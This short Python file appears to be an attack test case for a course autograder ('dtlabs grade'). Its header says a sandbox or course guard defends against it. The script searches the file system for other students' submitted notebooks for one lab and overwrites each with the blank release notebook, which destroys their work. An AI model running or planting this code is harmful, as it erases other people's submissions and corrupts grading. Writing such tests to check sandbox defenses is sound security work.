# attack: overwrite every other submission of this lab with the empty release
# defended-by: sandbox
#   (with bubblewrap it finds nothing; without, the course guard of `dtlabs grade` puts back what it wrote)
import glob
import os
import shutil

import lab_utils

# where course checkouts and scratch courses live (not the whole file system: the test must end in seconds)
_roots = {os.environ.get("DTLABS_COURSE_ROOT", ""), os.path.dirname(os.path.dirname(lab_utils.__file__)), "/tmp",
          "/home", "/work", "/srv"} - {""}
_release = None
for _root in _roots:
    _release = _release or next(iter(glob.glob(os.path.join(_root, "**", "labs", "01_ddp_setup", "01_ddp_setup.ipynb"),
                                               recursive=True)), None)
for _root in _roots:
    for _nb in glob.glob(os.path.join(_root, "**", "submitted", "*", "01_ddp_setup", "01_ddp_setup.ipynb"), recursive=True):
        try:
            shutil.copy(_release, _nb)
            print("overwrote", _nb)
        except (OSError, TypeError) as _exc:
            print("could not overwrite", _nb, _exc)
